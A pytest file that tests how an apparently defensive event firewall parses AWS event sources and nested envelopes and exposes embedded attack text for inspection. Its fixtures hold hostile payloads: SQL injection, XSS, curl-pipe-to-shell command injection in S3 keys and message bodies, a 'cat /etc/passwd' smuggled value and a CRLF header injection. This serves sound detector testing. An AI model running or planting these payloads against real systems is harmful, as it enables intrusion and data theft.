"""Event sources: every source, every nested envelope, malformed input and the to_event round trip."""

from __future__ import annotations

import ast
import base64
import copy
import json
import re
import time
from pathlib import Path
from typing import Any

import pytest

from firewall.engine.errors import UnknownEventError
from firewall.sources import Batch, Limits, Record, parse_event, to_event
from firewall.sources.base import SOURCES, Field
from firewall.sources.s3 import decoded_key, object_key, record_id

EVENTS = Path(__file__).resolve().parents[1] / "events"
SOURCES_DIR = Path(__file__).resolve().parents[2] / "firewall" / "sources"
SQLI = "1' UNION SELECT username, password FROM users--"
XSS = "<script>alert(document.cookie)</script>"


def load(name: str) -> dict[str, Any]:
    with (EVENTS / name).open(encoding="utf-8") as handle:
        event: dict[str, Any] = json.load(handle)
    return event


def values(record: Record, path: str) -> list[str | bytes]:
    return [item.value for item in record.fields if item.path == path]


def all_text(record: Record) -> str:
    return "\n".join(item.value for item in record.fields if isinstance(item.value, str))


def b64(data: str | bytes) -> str:
    return base64.b64encode(data.encode() if isinstance(data, str) else data).decode()


def sqs_event(*records: dict[str, Any]) -> dict[str, Any]:
    return {
        "Records": [{"eventSource": "aws:sqs", "eventSourceARN": "arn:aws:sqs:us-east-1:1:q", **r} for r in records]
    }


# ------------------------------------------------------------------------------------------ fixtures

FIXTURES = {
    "s3_put.json": ("s3", 1),
    "s3_put_malicious.json": ("s3", 1),
    "s3_mixed.json": ("s3", 3),
    "s3_test_event.json": ("s3", 0),
    "sqs_standard.json": ("sqs", 2),
    "sqs_standard_malicious.json": ("sqs", 4),
    "sqs_fifo.json": ("sqs", 4),
    "sqs_s3_notification.json": ("sqs", 3),
    "sqs_sns.json": ("sqs", 2),
    "sqs_sns_s3.json": ("sqs", 2),
    "sns.json": ("sns", 2),
    "sns_s3.json": ("sns", 2),
    "sns_ses_receipt.json": ("sns", 1),
    "dynamodb_stream.json": ("dynamodb", 3),
    "dynamodb_stream_malicious.json": ("dynamodb", 5),
    "kinesis.json": ("kinesis", 3),
    "kinesis_malicious.json": ("kinesis", 3),
    "eventbridge.json": ("eventbridge", 1),
    "eventbridge_malicious.json": ("eventbridge", 1),
    "eventbridge_s3_object_created.json": ("eventbridge", 1),
}


def test_every_field_path_of_every_fixture_is_one_a_target_may_name() -> None:
    """The loader rejects targets outside `FIELD_ROOTS`: every path a source gives must lie inside."""
    from firewall.engine.model import FIELD_ROOTS, unreachable_target

    assert set(FIELD_ROOTS) == {*SOURCES, "value"}
    paths = {item.path for name in FIXTURES for record in parse_event(load(name)).records for item in record.fields}
    assert {path.split(".")[0] for path in paths} >= {"s3", "sqs", "sns", "dynamodb", "kinesis", "eventbridge"}
    assert [path for path in sorted(paths) if unreachable_target(path)] == []


FIELD_PATHS = [
    "value", "value.note", "sqs.body", "sqs.body.note", "sqs.attributes.a", "sns.message", "sns.subject",
    "dynamodb.NewImage.note", "kinesis.data", "eventbridge.detail.note", "s3.key", "s3.bucket",
    "s3.metadata.a", "s3.tags.a", "s3.object.note", "s3.mail.headers.To", "sns.mail.headers.Subject",
    "sqs.mail.headers.Subject", "sqs.MessageGroupId", "sns.attributes.a",
]  # fmt: skip
"""A field of each kind a source gives (but whole documents), for signatures that list their roots."""


def test_line_based_crlf_signatures_cover_every_field_but_documents() -> None:
    """Their targets list roots one by one to leave whole documents out: a source added later must
    be added there too, or header injection in its fields would pass."""
    from fnmatch import fnmatchcase

    from firewall import Firewall
    from firewall.engine.model import FIELD_ROOTS

    assert {path.split(".")[0] for path in FIELD_PATHS} == set(FIELD_ROOTS)
    listed = [c.signature for c in Firewall.load().rules.signatures if c.signature.family == "crlf"]
    listed = [sig for sig in listed if not sig.applies_everywhere]
    assert len(listed) >= 5
    for sig in listed:
        assert [p for p in FIELD_PATHS if not any(fnmatchcase(p, glob) for glob in sig.targets)] == [], sig.id
        documents = ("s3.object", "s3.mail.parts[0]", "sns.mail.parts[0]", "sqs.mail.parts[1]")
        assert not any(fnmatchcase(p, g) for p in documents for g in sig.targets), sig.id


def test_every_fixture_is_listed() -> None:
    assert sorted(p.name for p in EVENTS.glob("*.json")) == sorted(FIXTURES)


@pytest.mark.parametrize("name", sorted(FIXTURES))
def test_fixture_parses_cleanly(name: str) -> None:
    source, count = FIXTURES[name]
    batch = parse_event(load(name), include_old_image=True)
    assert batch.source == source in SOURCES
    assert len(batch.records) == count
    for record in batch.records:
        assert record.source == source
        assert record.problems == []
        assert record.record_id
        assert all(isinstance(item, Field) for item in record.fields)


@pytest.mark.parametrize("name", sorted(FIXTURES))
def test_fixture_round_trips_verbatim(name: str) -> None:
    event = load(name)
    pristine = copy.deepcopy(event)
    batch = parse_event(event, include_old_image=True)
    assert to_event(batch, batch.records) == pristine
    assert event == pristine  # parsing never mutates the event


@pytest.mark.parametrize(
    ("name", "malicious_ids"),
    [
        ("sqs_standard_malicious.json", {1, 2, 3}),
        ("sqs_fifo.json", {1}),
        ("sqs_s3_notification.json", {1}),
        ("sqs_sns.json", {1}),
        ("sqs_sns_s3.json", {1}),
        ("sns.json", {1}),
        ("sns_s3.json", {1}),
        ("dynamodb_stream_malicious.json", {1, 2, 3, 4}),
        ("kinesis_malicious.json", {1, 2}),
    ],
)
def test_fixture_payloads_are_exposed_as_fields(name: str, malicious_ids: set[int]) -> None:
    """The attack text of the malicious records appears decoded in some field, and only there."""
    batch = parse_event(load(name), include_old_image=True)
    attack = re.compile(r"UNION SELECT|<script>|curl|[^\n]\| ?sh")
    found = {
        index
        for index, record in enumerate(batch.records)
        if any(attack.search(item.value if isinstance(item.value, str) else "") for item in record.fields)
        or any(b"curl" in item.value for item in record.fields if isinstance(item.value, bytes))
    }
    assert found == malicious_ids


# ------------------------------------------------------------------------------------------ S3


def test_s3_key_is_decoded_until_stable() -> None:
    assert decoded_key("x%3Bcurl+evil.sh%7Csh%3B.jpg") == "x;curl evil.sh|sh;.jpg"
    assert decoded_key("a%2527%2520b") == "a' b"
    assert object_key("a%2527") == "a%27"  # the real key is decoded exactly once


def test_s3_decoding_is_bounded() -> None:
    key = "%"
    for _ in range(50):
        key = key.replace("%", "%25")
    assert decoded_key(key, Limits(max_decode_rounds=3)).count("25") > 10


def test_s3_put_record() -> None:
    batch = parse_event(load("s3_put_malicious.json"))
    (record,) = batch.records
    assert values(record, "s3.key") == ["x;curl evil.sh|sh;.jpg"]
    assert values(record, "s3.bucket") == ["acme-uploads"]
    assert record.s3_objects == [("acme-uploads", "x;curl evil.sh|sh;.jpg", "3HL4kqtJvjVBH40Nrjfkd")]
    assert batch.source_arn == "arn:aws:s3:::acme-uploads"
    assert not batch.test_event


def test_s3_record_id_is_stable_and_safe_in_a_key() -> None:
    first = parse_event(load("s3_mixed.json")).records
    again = parse_event(load("s3_mixed.json")).records
    assert [r.record_id for r in first] == [r.record_id for r in again]
    assert len({r.record_id for r in first}) == 3
    for record in first:
        assert re.fullmatch(r"s3-[0-9a-f]{40}", record.record_id)
    assert record_id("b", "k", None, "1") != record_id("b", "k", "v", "1")
    assert record_id("b", "k/../x", "v", "1").startswith("s3-")


def test_s3_mixed_plus_spaces_versionless_and_deleted() -> None:
    records = parse_event(load("s3_mixed.json")).records
    assert records[0].s3_objects == [("acme-uploads", "reports/q1 summary(2).pdf", "3HL4kqtJvjVBH40Nrjfkd")]
    assert records[1].s3_objects == [("acme-uploads", "avatars/<script>alert(1)</script>.png", None)]
    assert values(records[1], "s3.key") == ["avatars/<script>alert(1)</script>.png"]
    assert records[2].s3_objects == []  # ObjectRemoved: nothing to read, but the key is still inspected
    assert values(records[2], "s3.key") == ["tmp/old-export.csv"]


def test_s3_test_event_has_no_records() -> None:
    event = load("s3_test_event.json")
    batch = parse_event(event)
    assert batch.test_event and batch.source == "s3" and batch.records == []
    assert to_event(batch, []) == event


def test_an_event_with_records_is_not_taken_for_a_test_event() -> None:
    """Only the records decide: an `Event: s3:TestEvent` member next to them does not discard them."""
    event = {**load("s3_put_malicious.json"), "Event": "s3:TestEvent", "Service": "Amazon S3"}
    batch = parse_event(event)
    assert not batch.test_event and len(batch.records) == 1


def test_s3_record_missing_object_is_a_problem_not_an_error() -> None:
    batch = parse_event({"Records": [{"eventSource": "aws:s3", "eventName": "ObjectCreated:Put", "s3": {}}]})
    (record,) = batch.records
    assert record.problems and record.s3_objects == []
    assert record.record_id.startswith("s3-")


# ------------------------------------------------------------------------------------------ SQS


def test_sqs_body_json_paths_and_attributes() -> None:
    batch = parse_event(load("sqs_standard_malicious.json"))
    clean, sqli, attrs, rce = batch.records
    assert clean.record_id == "059f36b4-87a3-44ab-83d2-661975830a7d"
    assert values(sqli, "sqs.body.items[2].note") == [SQLI]
    assert "items" in values(sqli, "sqs.body.{}")
    assert values(attrs, "sqs.attributes.referrer") == [XSS]
    assert values(attrs, "sqs.attributes.{}") == ["tenant", "referrer", "signature"]
    assert values(attrs, "sqs.attributes.signature") == [b"\x00\x9f\x92\x96binary-token\xff"]
    assert values(rce, "sqs.body") == ["please run ; curl http://evil.example/x.sh | sh on the build box"]
    assert batch.source_arn == "arn:aws:sqs:us-east-1:123456789012:orders"
    assert not batch.fifo
    assert all(r.group_id is None for r in batch.records)


def test_sqs_fifo_groups_and_sender_chosen_attributes() -> None:
    batch = parse_event(load("sqs_fifo.json"))
    assert batch.fifo
    assert [r.group_id for r in batch.records] == ["customer-42"] * 3 + ["customer-77"]
    first = batch.records[0]
    assert values(first, "sqs.MessageGroupId") == ["customer-42"]
    assert values(first, "sqs.MessageDeduplicationId") == ["d1"]
    assert values(first, "sqs.attributes.trace") == ["trace-id: 7f3a"]  # UTF-8 binary becomes text


def test_sqs_attribute_spellings_and_bad_base64() -> None:
    event = sqs_event(
        {
            "messageId": "m",
            "body": "x",
            "messageAttributes": {
                "a": {"StringValue": "pascal", "DataType": "String"},
                "b": {"binaryValue": "%%%not-base64", "dataType": "Binary"},
                "c": {"stringValue": '{"inner": "json"}', "dataType": "String"},
            },
        }
    )
    (record,) = parse_event(event).records
    assert values(record, "sqs.attributes.a") == ["pascal"]
    assert values(record, "sqs.attributes.b") == ["%%%not-base64"]
    assert values(record, "sqs.attributes.c.inner") == ["json"]
    assert len(record.problems) == 1 and "sqs.attributes.b" in record.problems[0]


@pytest.mark.parametrize(
    "attribute",
    [{"stringListValues": 5}, {"binaryListValues": True}, {"StringListValues": "x"}, 5, "text"],
)
def test_sqs_attribute_of_another_shape_is_a_problem_not_a_crash(attribute: Any) -> None:
    event = sqs_event({"messageId": "m", "body": "x", "messageAttributes": {"a": attribute}})
    (record,) = parse_event(event).records
    assert len(record.problems) == 1 and "sqs.attributes.a" in record.problems[0]


def test_sqs_attribute_list_values_are_inspected() -> None:
    attribute = {"stringListValues": [SQLI, 7], "binaryListValues": [b64(XSS)], "dataType": "String"}
    (record,) = parse_event(sqs_event({"messageId": "m", "body": "x", "messageAttributes": {"a": attribute}})).records
    assert values(record, "sqs.attributes.a[0]") == [SQLI, XSS] and record.problems == []


def test_sqs_missing_fields_become_problems() -> None:
    batch = parse_event(sqs_event({"body": "hello"}, {"messageId": "m2"}, {"messageId": "m3", "body": 42}))
    first, second, third = batch.records
    assert first.record_id == "missing-id-0" and first.problems
    assert second.record_id == "m2" and second.problems and second.fields == []
    assert third.problems


def test_sqs_ten_thousand_deep_body() -> None:
    body = '{"a":' * 10_000 + "1" + "}" * 10_000
    (record,) = parse_event(sqs_event({"messageId": "m", "body": body})).records
    assert values(record, "sqs.body") == [body]
    assert record.problems and "too deeply" in record.problems[0]


def test_sqs_one_megabyte_body() -> None:
    body = "x" * 1_048_576
    (record,) = parse_event(sqs_event({"messageId": "m", "body": body})).records
    assert record.fields == [Field("sqs.body", body)]
    assert record.problems == []


def test_sqs_wrapping_s3_notification() -> None:
    clean, evil, test_event = parse_event(load("sqs_s3_notification.json")).records
    assert evil.record_id == "c1d2e3f4-0000-4000-8000-000000000002"
    assert values(evil, "s3.key") == ["x;curl evil.sh|sh;.jpg"]
    assert values(evil, "sqs.body.Records[0].s3.object.key") == ["x%3Bcurl+evil.sh%7Csh%3B.jpg"]
    assert evil.s3_objects == [("acme-uploads", "x;curl evil.sh|sh;.jpg", "3HL4kqtJvjVBH40Nrjfkd")]
    assert clean.s3_objects == [("acme-uploads", "invoices/2024/inv 0042.pdf", "3HL4kqtJvjVBH40Nrjfkd")]
    assert test_event.s3_objects == [] and values(test_event, "sqs.body.Event") == ["s3:TestEvent"]


def test_sqs_wrapping_sns() -> None:
    clean, evil = parse_event(load("sqs_sns.json")).records
    assert values(evil, "sqs.body.Message.user") == [XSS]
    assert values(evil, "sqs.body.MessageAttributes.channel.Value") == ["web"]
    assert values(clean, "sqs.body.Subject") == ["signup"]
    assert evil.s3_objects == []


def test_sns_attribute_of_another_shape_is_inspected_and_a_problem() -> None:
    event = load("sns.json")
    event["Records"][0]["Sns"]["MessageAttributes"] = {"a": SQLI}
    record = parse_event(event).records[0]
    assert values(record, "sns.attributes.a") == [SQLI]
    assert record.problems == ["SNS message attribute sns.attributes.a is not an object"]


def test_binary_attributes_of_sns_envelopes_in_a_body_are_decoded() -> None:
    """A direct SNS record has its binary attributes decoded; so has an envelope in an SQS body,
    at each level, where the flat walk saw only base64 text."""
    inner = {"Type": "Notification", "Message": "hi", "MessageAttributes": {"b": {"Type": "Binary", "Value": b64(XSS)}}}
    outer = {
        "Type": "Notification",
        "Message": json.dumps(inner),
        "MessageAttributes": {
            "a": {"Type": "Binary", "Value": b64(SQLI)},
            "s": {"Type": "String", "Value": "plain"},
            "odd": "not an attribute",
        },
    }
    (record,) = parse_event(sqs_event({"messageId": "m", "body": json.dumps(outer)})).records
    assert values(record, "sqs.body.MessageAttributes.a") == [SQLI]
    assert values(record, "sqs.body.Message.MessageAttributes.b") == [XSS]
    assert values(record, "sqs.body.MessageAttributes.s") == []  # the flat walk has it, at .Value
    assert values(record, "sqs.body.MessageAttributes.s.Value") == ["plain"]


FORWARDED_PART = (
    "Hi, see below.\r\n\r\n---------- Forwarded message ---------\r\nFrom: Alice <alice@example.com>\r\n"
    "Subject: Re: numbers\r\nTo: Bob <bob@example.com>\r\nContent-Type: text/plain\r\n\r\nNumbers attached.\r\n"
)


def _ses_receipt(content: str, encoding: str = "UTF8") -> dict[str, Any]:
    """The SES notification of the fixture, with another message (and encoding)."""
    notification = json.loads(load("sns_ses_receipt.json")["Records"][0]["Sns"]["Message"])
    notification["receipt"]["action"]["encoding"] = encoding
    notification["content"] = content
    return notification


def _mail(subject: str, body: str) -> str:
    return (
        "From: Jane <jane@example.org>\r\nTo: orders@shop.example\r\nSubject: " + subject + "\r\n"
        "Date: Sun, 29 Nov 2026 10:00:00 +0000\r\nMIME-Version: 1.0\r\nContent-Type: text/plain\r\n\r\n" + body
    )


def test_an_ses_receipt_in_sns_is_read_as_a_mail() -> None:
    """SES's SNS action publishes the raw message: its headers and parts are fields, not the whole
    text, whose header lines every line-based CRLF signature would take for an injection."""
    (record,) = parse_event(load("sns_ses_receipt.json")).records
    assert values(record, "sns.message.content") == []
    assert values(record, "sns.mail.headers.Subject") == ["Order 1001 - question"]
    assert values(record, "sns.mail.parts[0]") == ["Hi, when will my order ship?\r\nThanks, Jane\r\n"]
    assert values(record, "sns.message.mail.commonHeaders.subject") == ["Order 1001 - question"]


def test_an_ses_receipt_in_base64_and_in_sqs_is_read_as_a_mail() -> None:
    notification = _ses_receipt(b64(_mail("hello", XSS)), encoding="BASE64")
    envelope = {"Type": "Notification", "MessageId": "n", "Message": json.dumps(notification)}
    (record,) = parse_event(sqs_event({"messageId": "m", "body": json.dumps(envelope)})).records
    assert values(record, "sqs.body.Message.content") == []
    assert values(record, "sqs.mail.headers.Subject") == ["hello"]
    assert values(record, "sqs.mail.parts[0]") == [XSS]
    assert record.problems == []


def test_a_forwarded_mail_is_not_header_injection_but_an_injected_header_and_an_attack_in_a_part_are() -> None:
    from firewall import Firewall

    firewall = Firewall.load()

    def verdict(subject: str, body: str) -> set[str]:
        event = load("sns_ses_receipt.json")
        event["Records"][0]["Sns"]["Message"] = json.dumps(_ses_receipt(_mail(subject, body)))
        (found,) = firewall.inspect_event(event)
        return set(found.signature_ids)

    assert verdict("Fwd: numbers", FORWARDED_PART) == set()
    assert {"FW-CRLF-002", "FW-CRLF-004"} & verdict("=?utf-8?q?hi=0D=0ABcc:_victim@example.net?=", "hello")
    assert any(sid.startswith("FW-XSS-") for sid in verdict("hello", XSS))


def test_an_ses_receipt_whose_base64_is_broken_is_a_problem() -> None:
    notification = _ses_receipt("not base64!", encoding="BASE64")
    event = load("sns_ses_receipt.json")
    event["Records"][0]["Sns"]["Message"] = json.dumps(notification)
    (record,) = parse_event(event).records
    assert record.problems and record.problems[0].startswith("sns.message.content: ")
    assert values(record, "sns.message.content") == ["not base64!"]


def test_a_duplicate_content_key_leaves_the_copy_not_read_as_mail_a_field() -> None:
    """JSON readers keep the last of two equal keys; the first copy must still be inspected."""
    notification = json.dumps(_ses_receipt(_mail("hello", "hi")))
    message = notification[:-1] + ', "content": "x;cat /etc/passwd"}'
    first, last = message.index('"content"'), message.rindex('"content"')
    message = message[:first] + '"content": "x;cat /etc/passwd", ' + message[first:last].rstrip(", ") + "}"
    event = load("sns_ses_receipt.json")
    event["Records"][0]["Sns"]["Message"] = message
    (record,) = parse_event(event).records
    assert values(record, "sns.message.content") == ["x;cat /etc/passwd"]
    assert values(record, "sns.mail.headers.Subject") == ["hello"]


def test_an_sns_envelope_that_also_looks_like_a_receipt_is_followed_as_an_envelope() -> None:
    inner = load("s3_put.json")
    envelope = {
        "Type": "Notification",
        "notificationType": "Received",
        "content": _mail("hello", "hi"),
        "Message": json.dumps(inner),
        "MessageAttributes": {"b": {"Type": "Binary", "Value": b64(XSS)}},
    }
    (record,) = parse_event(sqs_event({"messageId": "m", "body": json.dumps(envelope)})).records
    assert record.s3_objects != []
    assert values(record, "sqs.body.MessageAttributes.b") == [XSS]


def test_an_8_bit_receipt_in_base64_is_still_read_as_a_mail() -> None:
    mail = _mail("caf\xe9", "").encode("latin-1") + b"d\xe9j\xe0 vu; " + XSS.encode()
    event = load("sns_ses_receipt.json")
    event["Records"][0]["Sns"]["Message"] = json.dumps(_ses_receipt(b64(mail), encoding="BASE64"))
    (record,) = parse_event(event).records
    assert values(record, "sns.message.content") == []
    assert values(record, "sns.mail.headers.Subject") == ["caf\xe9"]
    (part,) = values(record, "sns.mail.parts[0]")  # Latin-1 bytes: inspected as the matcher reads bytes
    assert (part if isinstance(part, bytes) else part.encode("latin-1")).endswith(XSS.encode())


def test_sqs_wrapping_sns_wrapping_s3() -> None:
    clean, evil = parse_event(load("sqs_sns_s3.json")).records
    assert evil.record_id == "e1f2a3b4-0000-4000-8000-000000000002"
    assert values(evil, "sqs.body.Message.Records[0].s3.object.key") == ["x%3Bcurl+evil.sh%7Csh%3B.jpg"]
    assert values(evil, "s3.key") == ["x;curl evil.sh|sh;.jpg"]
    assert evil.s3_objects == [("acme-uploads", "x;curl evil.sh|sh;.jpg", "3HL4kqtJvjVBH40Nrjfkd")]
    assert clean.s3_objects == [("acme-uploads", "invoices/2024/inv 0042.pdf", "3HL4kqtJvjVBH40Nrjfkd")]


def test_sqs_wrapping_eventbridge_s3_event() -> None:
    body = json.dumps(load("eventbridge_s3_object_created.json"))
    (record,) = parse_event(sqs_event({"messageId": "m", "body": body})).records
    assert record.s3_objects == [
        ("acme-uploads", "uploads/report;curl evil.sh|sh;.pdf", "IYV3p45BT0ac8hjHg1houSdS1a.Mro8e")
    ]
    assert values(record, "sqs.body.detail.object.key") == ["uploads/report;curl evil.sh|sh;.pdf"]


def test_sqs_body_pretending_to_be_an_envelope_is_harmless() -> None:
    bodies = [
        {"Type": "Notification", "Message": 5},
        {"Type": "Notification", "Message": "{not json"},
        {"Records": "nope"},
        {"Records": [{"eventSource": "aws:s3", "s3": "nope"}]},
        {"Records": [{"eventSource": "aws:s3", "s3": {"bucket": {"name": 1}, "object": {"key": []}}}]},
    ]
    for body in bodies:
        (record,) = parse_event(sqs_event({"messageId": "m", "body": json.dumps(body)})).records
        assert record.s3_objects == []


# ------------------------------------------------------------------------------------------ SNS


def test_sns_message_subject_and_attributes() -> None:
    batch = parse_event(load("sns.json"))
    clean, evil = batch.records
    assert clean.record_id == "95df01b4-ee98-5cb9-9903-4c221d41eb5e"
    assert values(clean, "sns.subject") == ["signup"]
    assert values(clean, "sns.message.user") == ["ada"]
    assert values(clean, "sns.attributes.tags[1]") == ["trial"]  # String.Array is JSON
    assert values(clean, "sns.attributes.token") == [b"\x8a\x01\xfe\x00opaque"]
    assert values(evil, "sns.message") == ["user said: " + SQLI]
    assert values(evil, "sns.attributes.channel") == [XSS]
    assert batch.source_arn == "arn:aws:sns:us-east-1:123456789012:uploads-topic"


def test_sns_wrapping_s3() -> None:
    clean, evil = parse_event(load("sns_s3.json")).records
    assert values(evil, "s3.key") == ["x;curl evil.sh|sh;.jpg"]
    assert values(evil, "sns.message.Records[0].s3.object.key") == ["x%3Bcurl+evil.sh%7Csh%3B.jpg"]
    assert evil.s3_objects == [("acme-uploads", "x;curl evil.sh|sh;.jpg", "3HL4kqtJvjVBH40Nrjfkd")]
    assert clean.s3_objects


def test_sns_missing_parts() -> None:
    event = {"Records": [{"EventSource": "aws:sns", "Sns": {"Subject": None}}]}
    (record,) = parse_event(event).records
    assert record.record_id == "missing-id-0"
    assert len(record.problems) == 2


# ------------------------------------------------------------------------------------------ DynamoDB


def test_dynamodb_typed_values() -> None:
    batch = parse_event(load("dynamodb_stream.json"))
    insert, modify, remove = batch.records
    assert insert.record_id == "111100000000000000001"
    assert values(insert, "dynamodb.Keys.pk") == ["ORDER#A-1001"]
    assert values(insert, "dynamodb.NewImage.note") == ["gift wrap please"]
    assert values(insert, "dynamodb.NewImage.tags[0]") == ["gift"]
    assert values(insert, "dynamodb.NewImage.thumbnail") == [b"\x89PNG\r\n\x1a\n\x00"]  # binary B
    assert values(insert, "dynamodb.NewImage.memo") == ["handwritten memo: deliver after 5pm"]  # UTF-8 B
    assert values(insert, "dynamodb.NewImage.attachments[1]") == ["receipt.txt"]  # BS
    assert values(insert, "dynamodb.NewImage.shipping.address[0]") == ["12 Analytical Row"]  # M > L
    assert values(insert, "dynamodb.NewImage.shipping.instructions.codes[0]") == ["1234"]  # M > M > SS
    assert values(insert, "dynamodb.NewImage.history[1].status") == ["paid"]  # L > M
    assert "shipping" in values(insert, "dynamodb.NewImage.{}")
    assert "door" in values(insert, "dynamodb.NewImage.shipping.instructions.{}")
    for number_path in ("total", "quantities[0]", "express", "coupon", "shipping.address[2]"):
        assert values(insert, f"dynamodb.NewImage.{number_path}") == []
    assert not any(item.path.startswith("dynamodb.OldImage") for item in modify.fields)
    assert [item.path for item in remove.fields if not item.path.startswith("dynamodb.Keys")] == []


def test_dynamodb_old_image_only_when_asked() -> None:
    batch = parse_event(load("dynamodb_stream_malicious.json"), include_old_image=True)
    remove = batch.records[4]
    assert values(remove, "dynamodb.OldImage.note") == [SQLI]
    without = parse_event(load("dynamodb_stream_malicious.json")).records[4]
    assert SQLI not in all_text(without)


def test_dynamodb_malicious_values_in_nested_types() -> None:
    records = parse_event(load("dynamodb_stream_malicious.json")).records
    assert values(records[1], "dynamodb.NewImage.shipping.address[0]") == [SQLI]
    assert values(records[2], "dynamodb.NewImage.tags[1]") == [XSS]
    assert values(records[3], "dynamodb.NewImage.thumbnail") == ["x; curl http://evil.example/x.sh | sh"]


def ddb_event(image: dict[str, Any], sequence: str | None = "1") -> dict[str, Any]:
    stream: dict[str, Any] = {"Keys": {"pk": {"S": "k"}}, "NewImage": image}
    if sequence is not None:
        stream["SequenceNumber"] = sequence
    return {"Records": [{"eventSource": "aws:dynamodb", "eventName": "INSERT", "dynamodb": stream}]}


def test_dynamodb_bad_binary_and_odd_values() -> None:
    image = {
        "b": {"B": "***"},
        "n": {"N": "not-a-number"},
        "raw": "untyped",
        "two": {"S": "a", "N": "1"},
        "bs": {"BS": [b64(b"\xff\xfe"), "@@"]},
        "l": {"L": "not-a-list"},
        "json": {"S": '{"x": "<script>"}'},
    }
    (record,) = parse_event(ddb_event(image)).records
    assert values(record, "dynamodb.NewImage.b") == ["***"]
    assert values(record, "dynamodb.NewImage.n") == ["not-a-number"]
    assert values(record, "dynamodb.NewImage.raw") == ["untyped"]
    assert values(record, "dynamodb.NewImage.two.S") == ["a"]
    assert values(record, "dynamodb.NewImage.bs[0]") == [b"\xff\xfe"]
    assert values(record, "dynamodb.NewImage.l") == ["not-a-list"]
    assert values(record, "dynamodb.NewImage.json.x") == ["<script>"]
    assert len(record.problems) == 3  # the two invalid base64 values and the list that is not one
    assert sum("L value is a str, not a list" in problem for problem in record.problems) == 1


@pytest.mark.parametrize(
    ("typed", "problem"),
    [
        ({"BOOL": SQLI}, "BOOL value is a str, not a boolean"),
        ({"NULL": SQLI}, "NULL value is a str, not true"),
        ({"SS": SQLI}, "SS value is a str, not a list"),
        ({"M": SQLI}, "M value is a str, not a map"),
    ],
)
def test_dynamodb_value_of_the_wrong_shape_is_inspected_and_a_problem(typed: dict[str, Any], problem: str) -> None:
    """boto3's deserialiser hands a `BOOL` holding a string to the function as that string: the
    value is inspected as it is, and its shape makes the record a problem."""
    (record,) = parse_event(ddb_event({"flag": typed})).records
    assert values(record, "dynamodb.NewImage.flag") == [SQLI]
    assert len(record.problems) == 1 and problem in record.problems[0]


def test_dynamodb_booleans_and_nulls_of_the_right_shape_are_no_problem() -> None:
    (record,) = parse_event(ddb_event({"a": {"BOOL": False}, "b": {"NULL": True}})).records
    assert record.problems == [] and values(record, "dynamodb.NewImage.a") == []


def test_dynamodb_image_that_is_not_a_map_is_inspected_and_a_problem() -> None:
    event = ddb_event({})
    event["Records"][0]["dynamodb"]["NewImage"] = [SQLI]
    (record,) = parse_event(event).records
    assert values(record, "dynamodb.NewImage[0]") == [SQLI]
    assert record.problems == ["DynamoDB dynamodb.NewImage is a list, not a map"]


def test_dynamodb_deep_nesting_and_missing_sequence() -> None:
    value: dict[str, Any] = {"S": "bottom"}
    for _ in range(5_000):
        value = {"M": {"m": value}}
    (record,) = parse_event(ddb_event({"deep": value}, sequence=None)).records
    assert record.record_id == "missing-id-0"
    assert any("SequenceNumber" in problem for problem in record.problems)
    assert any("deeper than" in problem for problem in record.problems)


# ------------------------------------------------------------------------------------------ Kinesis


def kinesis_event(data: str, sequence: str = "4959") -> dict[str, Any]:
    return {
        "Records": [
            {
                "eventSource": "aws:kinesis",
                "eventSourceARN": "arn:aws:kinesis:us-east-1:1:stream/s",
                "kinesis": {"partitionKey": "pk-1", "sequenceNumber": sequence, "data": data},
            }
        ]
    }


def test_kinesis_json_text_and_binary() -> None:
    batch = parse_event(load("kinesis.json"))
    json_record, text_record, binary_record = batch.records
    assert json_record.record_id == "49590338271490256608559692538361571095921575989136588898"
    assert values(json_record, "kinesis.data.page") == ["/products/42"]
    assert values(json_record, "kinesis.partitionKey") == ["user-42"]
    assert values(text_record, "kinesis.data") == ["plain text click: /home"]
    assert values(binary_record, "kinesis.data") == [b"\x00\x01\xfe\xff\x80binary-frame"]
    assert binary_record.problems == []
    assert batch.source_arn == "arn:aws:kinesis:us-east-1:123456789012:stream/clickstream"


def test_kinesis_invalid_utf8_stays_bytes() -> None:
    (record,) = parse_event(kinesis_event(b64(b"ok \xc3\x28 <script>"))).records
    assert values(record, "kinesis.data") == [b"ok \xc3\x28 <script>"]
    assert record.problems == []


def test_kinesis_invalid_base64_is_a_problem() -> None:
    (record,) = parse_event(kinesis_event("!!! not base64 <script>")).records
    assert values(record, "kinesis.data") == ["!!! not base64 <script>"]
    assert record.problems and "invalid base64" in record.problems[0]


def test_kinesis_missing_data() -> None:
    event = {"Records": [{"eventSource": "aws:kinesis", "kinesis": {}}]}
    (record,) = parse_event(event).records
    assert record.record_id == "missing-id-0" and len(record.problems) == 2


# ------------------------------------------------------------------------------------------ EventBridge


def test_eventbridge_detail_paths() -> None:
    batch = parse_event(load("eventbridge_malicious.json"))
    (record,) = batch.records
    assert record.record_id == "6a7e8feb-b491-4cf7-a9f1-bf3703467719"
    assert values(record, "eventbridge.detail.items[1].note") == [SQLI]
    assert values(record, "eventbridge.detail-type") == ["OrderPlaced"]
    assert values(record, "eventbridge.source") == ["com.example.orders"]
    assert record.s3_objects == []


def test_eventbridge_s3_object_created_names_the_object() -> None:
    (record,) = parse_event(load("eventbridge_s3_object_created.json")).records
    assert record.s3_objects == [
        ("acme-uploads", "uploads/report;curl evil.sh|sh;.pdf", "IYV3p45BT0ac8hjHg1houSdS1a.Mro8e")
    ]
    assert values(record, "s3.key") == ["uploads/report;curl evil.sh|sh;.pdf"]
    assert values(record, "eventbridge.resources[0]") == ["arn:aws:s3:::acme-uploads"]


def test_eventbridge_string_detail_and_missing_id() -> None:
    event = {"detail-type": "x", "source": "custom", "detail": '{"a": "<script>"}'}
    (record,) = parse_event(event).records
    assert values(record, "eventbridge.detail.a") == ["<script>"]
    assert record.record_id == "missing-id-0" and record.problems


# ------------------------------------------------------------------------------------------ unknown shapes


@pytest.mark.parametrize(
    ("event", "reason"),
    [
        ("a string", "is a str"),
        ([{"Records": []}], "is a list"),
        (None, "is a NoneType"),
        ({}, "no 'Records'"),
        ({"httpMethod": "GET", "path": "/"}, "no 'Records'"),
        ({"Records": []}, "non-empty list"),
        ({"Records": {"a": 1}}, "non-empty list"),
        ({"Records": ["x"]}, "Records[0] is a str"),
        ({"Records": [{"eventSource": "aws:kafka"}]}, "unknown eventSource 'aws:kafka'"),
        ({"Records": [{"body": "no source"}]}, "Records[0] has no eventSource"),
        ({"Records": [{"eventSource": ["aws:sqs"]}]}, "unknown eventSource"),
        ({"Records": [{"eventSource": "aws:sqs"}, {"eventSource": "aws:s3"}]}, "mix sources"),
        ({"detail-type": "x", "source": "y"}, "no 'Records'"),
    ],
)
